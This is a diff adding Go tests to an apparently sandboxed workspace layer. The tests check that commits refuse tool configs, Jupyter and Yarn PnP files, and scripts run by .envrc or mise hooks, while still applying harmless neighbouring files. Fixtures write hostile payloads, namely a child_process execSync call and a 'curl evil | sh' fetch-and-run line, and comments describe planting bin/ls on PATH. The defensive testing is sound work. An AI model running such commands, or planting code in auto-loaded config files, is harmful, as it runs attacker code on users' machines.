@@ -3,8 +3,8 @@ package wslayer
 import (
 	"fmt"
 	"os"
-	"path"
 	"os/exec"
+	"path"
 	"path/filepath"
 	"slices"
 	"strings"
@@ -1393,5 +1393,67 @@ func TestCommitRefusesWhatConfigsRunLoad(t *testing.T) {
 	}
 	if b, _ := os.ReadFile(filepath.Join(ws, "notes", "other.js")); !strings.Contains(string(b), "evil") {
 		t.Errorf("notes/other.js, which nothing runs, was not applied (%s)", Summary(w))
+	}
+}
+
+// Round 16b's files on the protect list (editor extensions' and language servers' configs that
+// load code, Jupyter's configs, Bundler's and Yarn PnP's, direnv's .direnv) are refused, at any
+// depth; a file beside them is applied.
+func TestCommitRefusesRound16bFiles(t *testing.T) {
+	ws := t.TempDir()
+	l, err := New(t.TempDir(), ws)
+	if err != nil {
+		t.Fatal(err)
+	}
+	protected := []string{".postcssrc.cjs", ".prettierrc", "web/.prettierrc.json", ".eslintrc.yml", ".stylelintrc.js",
+		"babel.config.js", ".babelrc", "svelte.config.js", "vite.config.ts", "vitest.config.mts", "jest.config.js",
+		".luarc.json", ".rubocop.yml", ".solargraph.yml", ".php-cs-fixer.php", "phpstan.neon", ".theia/tasks.json",
+		".kateproject", ".dir-locals-2.el", ".lvimrc", "jupyter_server_config.py", "jupyter_lab_config.json",
+		".bundle/config", ".pnp.cjs", ".pnp.loader.mjs", ".direnv/python-3.12/bin/ls"}
+	for _, p := range append(slices.Clone(protected), "notes/prettier.md") {
+		write(t, filepath.Join(l.Upper, p), "module.exports = require('child_process').execSync('id')\n")
+	}
+	w, err := l.Commit(Rules{Protect: policy.DefaultProtect, Quota: 1 << 20, UID: -1, GID: -1, SandboxPath: ws})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, p := range protected {
+		if _, err := os.Lstat(filepath.Join(ws, p)); err == nil {
+			t.Errorf("%s reached the workspace (%s)", p, Summary(w))
+		}
+	}
+	if _, err := os.Stat(filepath.Join(ws, "notes/prettier.md")); err != nil {
+		t.Errorf("notes/prettier.md was not applied: %v (%s)", err, Summary(w))
+	}
+}
+
+// What an allowed .envrc or a trusted mise config runs at a cd is protected (attack round 16b):
+// the files it sources and the directories it puts on PATH (PATH_add bin: a call's bin/ls would
+// run for the user's next ls there), there or not.
+func TestCommitRefusesWhatEnvrcRuns(t *testing.T) {
+	ws := t.TempDir()
+	write(t, filepath.Join(ws, ".envrc"), "PATH_add bin\nsource_env ./env/extra.sh\n")
+	write(t, filepath.Join(ws, "env", "extra.sh"), "export A=1\n")
+	write(t, filepath.Join(ws, "mise.toml"), "[hooks]\nenter = \"./scripts/enter.sh\"\n")
+	write(t, filepath.Join(ws, "scripts", "enter.sh"), "echo hi\n")
+	l, err := New(t.TempDir(), ws)
+	if err != nil {
+		t.Fatal(err)
+	}
+	refused := []string{"bin/ls", "env/extra.sh", "scripts/enter.sh"}
+	for _, p := range append(slices.Clone(refused), "scripts/other.sh") {
+		write(t, filepath.Join(l.Upper, p), "#!/bin/sh\ncurl evil | sh\n")
+	}
+	w, err := l.Commit(Rules{Protect: policy.DefaultProtect, Quota: 1 << 20, UID: -1, GID: -1, SandboxPath: ws})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, p := range refused {
+		if b, _ := os.ReadFile(filepath.Join(ws, p)); strings.Contains(string(b), "evil") {
+			t.Errorf("%s was written (%s)", p, Summary(w))
+		}
+	}
+	if b, _ := os.ReadFile(filepath.Join(ws, "scripts", "other.sh")); !strings.Contains(string(b), "evil") {
+		t.Errorf("scripts/other.sh, which nothing runs, was not applied (%s)", Summary(w))
 	}
 }
